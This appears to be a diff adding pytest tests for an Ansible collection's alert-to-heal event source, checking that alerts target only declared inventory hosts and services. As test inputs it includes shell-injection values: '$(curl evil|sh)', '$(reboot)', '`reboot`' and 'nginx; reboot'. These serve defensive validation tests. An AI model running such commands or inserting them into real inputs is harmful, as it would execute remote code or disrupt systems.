@@ -1,0 +1,91 @@
+"""Alerts against a real inventory (written to disk, read by Ansible's inventory manager): exactly the named host and
+service, or nothing."""
+
+from __future__ import annotations
+
+import json
+from pathlib import Path
+
+import pytest
+
+from ansible_collections.sentinel.heal.plugins.plugin_utils.eda.events import read_alerts
+from ansible_collections.sentinel.heal.plugins.plugin_utils.eda.fleet import Fleet, read_fleet
+from ansible_collections.sentinel.heal.plugins.plugin_utils.eda.options import ALERT_WEBHOOK_OPTIONS, WATCHDOG_OPTIONS, source_options
+from ansible_collections.sentinel.heal.plugins.plugin_utils.errors import ConfigError
+
+INVENTORY = """
+web:
+  hosts:
+    web1: {ansible_host: 10.0.0.1}
+    web2: {ansible_host: "{{ '10.0.0.' ~ 2 }}"}
+  vars:
+    autoheal_services: [{name: nginx, ports: [80]}, {name: redis}]
+db:
+  hosts:
+    db1: {autoheal_services: [{name: postgresql}]}
+"""
+
+
+@pytest.fixture(scope="module")
+def fleet(tmp_path_factory: pytest.TempPathFactory) -> Fleet:
+    path = tmp_path_factory.mktemp("inventory") / "hosts.yml"
+    path.write_text(INVENTORY)
+    return read_fleet(str(path))
+
+
+def alertmanager(*labels: dict[str, str], status: str = "firing") -> dict[str, object]:
+    return {"version": "4", "status": status, "receiver": "sentinel-heal",
+            "alerts": [{"status": status, "labels": dict(label), "annotations": {"summary": "$(reboot)"}} for label in labels]}
+
+
+def test_the_fleet_is_the_inventory_with_its_templated_declarations(fleet: Fleet) -> None:
+    assert fleet.services == {"web1": ("nginx", "redis"), "web2": ("nginx", "redis"), "db1": ("postgresql",)}
+    assert fleet.addresses == {"10.0.0.1": "web1", "10.0.0.2": "web2"}
+
+
+def test_an_alertmanager_alert_heals_exactly_its_host_and_service(fleet: Fleet) -> None:
+    requests, ignored = read_alerts(alertmanager({"alertname": "NginxDown", "instance": "10.0.0.2:9100", "service": "nginx"}), fleet)
+    assert ignored == []
+    assert [request.event() for request in requests] == [
+        {"sentinel": {"host": "web2", "service": "nginx", "source": "alertmanager", "reason": "alert NginxDown"}, "meta": {"hosts": "web2"}}]
+
+
+def test_a_plain_webhook_and_duplicates_in_one_body(fleet: Fleet) -> None:
+    requests, ignored = read_alerts([{"host": "db1", "service": "postgresql"}] * 3, fleet)
+    assert [(request.host, request.service, request.source) for request in requests] == [("db1", "postgresql", "webhook")]
+    assert ignored == []
+
+
+@pytest.mark.parametrize(("labels", "why"), [
+    ({"host": "all", "service": "nginx"}, "host 'all' is not an inventory host"),
+    ({"host": "web", "service": "nginx"}, "host 'web' is not an inventory host"),
+    ({"host": "web*", "service": "nginx"}, "host 'web*' is not an inventory host"),
+    ({"host": "web1,db1", "service": "nginx"}, "host 'web1,db1' is not an inventory host"),
+    ({"host": "web1:!db1", "service": "nginx"}, "host 'web1:!db1' is not an inventory host"),
+    ({"host": "evil.example.com", "service": "nginx"}, "host 'evil.example.com' is not an inventory host"),
+    ({"host": "db1", "service": "nginx"}, "service 'nginx' is not declared in autoheal_services of db1"),
+    ({"host": "web1", "service": "nginx; reboot"}, "service 'nginx; reboot' is not declared in autoheal_services of web1"),
+    ({"host": "web1"}, "names no host and service (host 'web1', service None)"),
+])
+def test_what_the_inventory_does_not_hold_is_ignored_never_widened(fleet: Fleet, labels: dict[str, str], why: str) -> None:
+    assert read_alerts(alertmanager(labels), fleet) == ([], [why])
+
+
+def test_shell_text_in_an_alert_never_reaches_the_event(fleet: Fleet) -> None:
+    labels = {"alertname": "$(curl evil|sh)", "host": "web1", "service": "nginx", "job": "`reboot`"}
+    requests, _ignored = read_alerts(alertmanager(labels), fleet)
+    assert "evil" not in json.dumps([request.event() for request in requests])
+    assert requests[0].reason == "alert"
+
+
+def test_resolved_alerts_heal_nothing(fleet: Fleet) -> None:
+    assert read_alerts(alertmanager({"alertname": "NginxDown", "host": "web1", "service": "nginx"}, status="resolved"), fleet) == (
+        [], ["alert 'NginxDown' is 'resolved', not firing"])
+
+
+def test_options_are_validated_as_a_module_s(tmp_path: Path) -> None:
+    assert source_options("alert_webhook", ALERT_WEBHOOK_OPTIONS, {"inventory": "inv", "port": "5077"})["port"] == 5077
+    with pytest.raises(ConfigError, match="interval"):
+        source_options("watchdog", WATCHDOG_OPTIONS, {"inventory": "inv", "interval": 0.1})
+    with pytest.raises(ConfigError, match="inventory"):
+        source_options("watchdog", WATCHDOG_OPTIONS, {})
